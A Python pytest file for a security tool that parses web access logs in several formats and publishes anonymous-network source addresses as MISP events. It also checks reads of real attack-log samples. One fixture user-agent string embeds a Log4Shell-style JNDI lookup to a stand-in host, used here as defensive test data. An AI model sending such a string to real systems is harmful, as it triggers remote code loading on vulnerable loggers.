"""Access logs, composed and real, written to a node by the command and read back with PyMISP."""

import gzip
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import zstandard

from securegrid.cli.main import exit_code_of
from securegrid.demo import geo, geo_log
from securegrid.ingest.model import Block
from securegrid.ingest.networks.classes import Networks
from securegrid.ingest.networks.lists import networks_in, systems_in
from securegrid.ingest.readers.access_log import AccessLogOptions, make_reader
from securegrid.ingest.readers.format import UnknownFormatError
from tests.contract.publishing import WRITER, held
from tests.contract.test_ingest_readers import ALLIANCE, drafts
from tests.unit.ingest.readers.access import EVERYBODY
from tests.unit.ingest.readers.blocks import NOW

SHARED = Path(__file__).parents[3] / "shared" / "data"
AGENTS = {
    "Windows": "Mozilla/5.0 (Windows NT 10.0) ${jndi:ldap://x.example/a}",
    "iOS": "Mozilla/5.0 (iPhone; CPU iPhone OS 14_5 like Mac OS X)",
    "OS-Unknown": "curl/7.76.1",
}


class Access(NamedTuple):
    """One request; ``at`` in Unix seconds."""

    at: int
    address: str
    system: str


MIDNIGHT = int(datetime(2021, 5, 13, tzinfo=UTC).timestamp())
ACCESSES = [
    Access(MIDNIGHT + 40_000 * n % 170_000, f"5.8.{n % 3}.{n % 40}", system)
    for n, system in enumerate(list(AGENTS) * 60)
] + [Access(MIDNIGHT + n, "9.9.9.9", "Windows") for n in range(20)]
SIXES = [Access(MIDNIGHT + n, "2a00:1450::7", "iOS") for n in range(3)]


def combined(one: Access) -> str:
    time = datetime.fromtimestamp(one.at, UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{one.address} - - [{time}] "GET / HTTP/1.1" 200 5 "-" "{AGENTS[one.system]}"\n'


def as_json(one: Access) -> str:
    return json.dumps(
        {"remote_addr": one.address, "msec": one.at, "http_user_agent": AGENTS[one.system]}
    ) + "\n"  # fmt: skip


def alb(one: Access) -> str:
    time = datetime.fromtimestamp(one.at, UTC).strftime("%Y-%m-%dT%H:%M:%S.123456Z")
    return (
        f"https {time} app/x/y {one.address}:44740 10.0.0.1:80 0.1 0.0 0.0 200 200 0 57"
        f' "GET https://www.example.com:443/ HTTP/1.1" "{AGENTS[one.system]}" E T arn "Root=1"\n'
    )


@pytest.fixture(scope="module")
def cache(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("cache")


@pytest.fixture
def ingest(node: str, tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """``ingest(content, …options)``: the command's exit code."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(cache))
    key, networks = tmp_path / "key", tmp_path / "networks.txt"
    key.write_text(WRITER)
    networks.write_text("5.8.0.0/16\n2a00:1450::/32 # six\n")

    def run(content: bytes, *options: str) -> int:
        log = tmp_path / "access.log"
        log.write_bytes(content)
        common = ["--source", "docodoco.jp", "--state", str(tmp_path / "state"), "--workers", "1"]
        target = ["--misp", node, "--key-file", str(key)]
        lists = ["--networks", f"VPS/Cloud={networks}", "--no-shipped-lists"]
        command = ["ingest", "access-log", str(log), *common, *target, *lists, *options]
        return exit_code_of(command)

    return run


def told(accesses: list[Access]) -> dict[tuple[str, str], dict[str, tuple[str, str, str]]]:
    """By day and system: each anonymous address with first and last seen and its comment."""
    events: dict[tuple[str, str], dict[str, list[int]]] = {}
    for one in accesses:
        if one.address.startswith(("5.8.", "2a00:1450:")):
            day = datetime.fromtimestamp(one.at, UTC).date().isoformat()
            events.setdefault((day, one.system), {}).setdefault(one.address, []).append(one.at)
    return {
        key: {address: _told(times) for address, times in addresses.items()}
        for key, addresses in events.items()
    }


def _told(times: list[int]) -> tuple[str, str, str]:
    first, last = (
        datetime.fromtimestamp(at, UTC).isoformat(timespec="microseconds")
        for at in (min(times), max(times))
    )
    return first, last, "1 request" if len(times) == 1 else f"{len(times)} requests"


def read_back(node: str) -> dict[tuple[str, str], dict[str, tuple[str, str, str]]]:
    """The same, of what the node has, whichever provider an event is of."""
    events: dict[tuple[str, str], dict[str, tuple[str, str, str]]] = {}
    for event in held(node).values():
        day, name, system, *_ = event["info"].split(" ")
        assert (event["published"], name) == (True, "docodoco.jp")
        assert event["tags"][0] == event["date"] == day.strip("()")
        assert set(event["tags"]) >= {"anonymous:VPS/Cloud", "docodoco.jp", "tlp:amber"}
        sources = [one for one in event["attributes"].values() if one["type"] == "ip-src"]
        assert not any(one["to_ids"] for one in sources)
        of_day = events.setdefault((event["date"], system), {})
        assert not of_day.keys() & {one["value"] for one in sources}
        of_day.update(
            (one["value"], (one["first_seen"], one["last_seen"], one["comment"])) for one in sources
        )
    return events


@pytest.mark.parametrize(
    "content",
    [
        "".join(map(combined, [*ACCESSES, *SIXES])).encode(),
        gzip.compress("".join(map(as_json, [*ACCESSES, *SIXES])).encode()),
        zstandard.compress("".join(map(alb, [*ACCESSES, *SIXES])).encode()),
    ],
    ids=["combined", "JSON, gzip", "ALB, zstd"],
)
def test_what_is_composed_is_read_back(node: str, ingest: Any, content: bytes) -> None:
    assert ingest(content) == 0
    assert read_back(node) == told([*ACCESSES, *SIXES])


def test_a_log_in_parts_with_bad_lines_between_is_the_whole_log(node: str, ingest: Any) -> None:
    lines = [combined(one) for one in ACCESSES]
    part = "".join(lines[:70]) + "\x1b]0;no line at all\x07\n"
    assert ingest(part.encode()) == 0
    assert ingest((part + "".join(lines[70:])).encode()) == 0
    assert ingest(gzip.compress((part + "".join(lines[70:])).encode())) == 0
    assert read_back(node) == told(ACCESSES)


def test_the_services_own_rows_are_the_trials_events(node: str, ingest: Any) -> None:
    day = geo.DAYS[-1]
    rows = list(geo_log.lines(day))[:400]
    options = ("--rows", "--name", "どこどこJP", "--zone", "Asia/Tokyo", "--force")
    assert ingest("".join(rows).encode(), *options) == 0
    found = held(node)
    sources = [a["value"] for e in found.values() for a in e["attributes"].values()]
    wanted = {row.split(",")[1] for row in rows[1:] if ",VPS/Cloud," in row}
    assert {one for one in sources if one.startswith("198.18.")} == {
        one for one in wanted if one.startswith("198.18.")
    }
    titles = {event["info"] for event in found.values()}
    assert titles <= {geo.title(day, seen.system, seen.provider) for seen in geo.seen_on(day)}


# Lines, lines that are data when everybody is, and bad lines of the real samples.
REAL = {
    "apache2-http-sensitive-files": (13, 13, 0),
    "aws-alb-http-bad-user-agent": (4, 4, 0),
    "bunkerweb-http-malformed": (13, 12, 0),
    "envoy-http-crawl-non_statics": (41, 41, 0),
    "http-bf-wordpress-bf": (10, 9, 0),
    "http-dos-bypass-cache": (356, 356, 0),
    "litespeed-http-sensitive-files": (6, 6, 0),
    "nginx-bad-user-agent": (3, 3, 0),
    "nginx-cve-2021-41773": (2, 2, 0),
    "nginx-http-generic-bf": (22, 6, 16),
    "nginx-http-malformed": (12, 12, 0),
    "nginx-http-xss-probing": (26, 26, 0),
    "nginx_http-catch-npm": (6, 6, 0),
    "traefik_base-http-scenario": (80, 80, 0),
}
OTHERS = ("apache-guacamole_bf", "fortinet-vpn-bf", "modsecurity-nginx", "zoraxy-http-logs")


def sample(name: str) -> bytes:
    (path,) = (SHARED / "crowdsec-logs" / name).glob("*.log")
    return path.read_bytes()


@pytest.mark.shared
@pytest.mark.parametrize("name", REAL)
def test_real_samples_are_read_to_the_last_line(name: str) -> None:
    content = sample(name)
    reader = make_reader(content, AccessLogOptions(now=NOW, networks=EVERYBODY))
    batch = reader.read(Block(content, 1))
    data = sum(counted.count for counted in batch.seen.values())
    assert (batch.lines, data, len(batch.bad)) == REAL[name]


@pytest.mark.shared
@pytest.mark.parametrize("name", REAL)
def test_real_samples_are_read_back_as_they_were_drafted(
    node: str, ingest: Any, tmp_path: Path, name: str
) -> None:
    """With everybody anonymous, so that every line becomes data; documentation addresses too."""
    everywhere, content = tmp_path / "everywhere.txt", sample(name)
    everywhere.write_text("0.0.0.0/0\n::/0\n")
    options = ("--networks", f"Hosting={everywhere}", "--alliance", ALLIANCE, "--force")
    assert ingest(content, *options) == 0
    read = [("VPS/Cloud", tmp_path / "networks.txt"), ("Hosting", everywhere)]
    networks = Networks([(kind, networks_in(file)) for kind, file in read], shipped=False)
    written = held(node)
    assert written == drafts("access-log", content, "docodoco.jp", networks=networks)
    requests = [a["comment"] for e in written.values() for a in e["attributes"].values()]
    assert sum(int(one.split()[0]) for one in requests if "request" in one) == REAL[name][1]


@pytest.mark.shared
@pytest.mark.parametrize("name", OTHERS)
def test_real_samples_of_other_kinds_are_refused(name: str) -> None:
    with pytest.raises(UnknownFormatError):
        make_reader(sample(name), AccessLogOptions(now=NOW, networks=EVERYBODY))


@pytest.mark.shared
def test_real_lists_tell_the_classes_of_what_they_hold() -> None:
    lists = SHARED / "x4bnet" / "output"
    read = [
        (kind, networks_in(lists / folder / f"ipv{version}.txt"))
        for kind, folder in (("VPN", "vpn"), ("VPS/Cloud", "datacenter"))
        for version in (4, 6)
    ]
    networks = Networks(read, shipped=False)
    for kind, held_ in read:
        found = [networks.of(str(one[0])) for one in held_[::97]]
        assert {place.kind for place in found if place} <= {"VPN", "VPS/Cloud"}
        assert None not in found
        assert any(place.kind == kind for place in found if place)
    assert len(systems_in(SHARED / "x4bnet" / "input" / "datacenter" / "ASN.txt")) > 500


@pytest.mark.shared
def test_a_real_attack_becomes_an_event_of_its_provider(node: str, ingest: Any) -> None:
    datacenter = SHARED / "x4bnet" / "output" / "datacenter" / "ipv4.txt"
    content = sample("nginx-cve-2021-41773")
    assert ingest(content, "--networks", f"Hosting={datacenter}") == 0
    titles = {
        event["info"]: [a["value"] for a in event["attributes"].values() if a["type"] == "ip-src"]
        for event in held(node).values()
    }
    assert titles == {
        "(2021-10-08) docodoco.jp OS-Unknown Hosting (https://www.colocrossing.com/)": [
            "23.94.26.138"
        ],
        "(2021-10-08) docodoco.jp OS-Unknown Hosting (https://www.scaleway.com/)": [
            "163.172.173.238"
        ],
    }
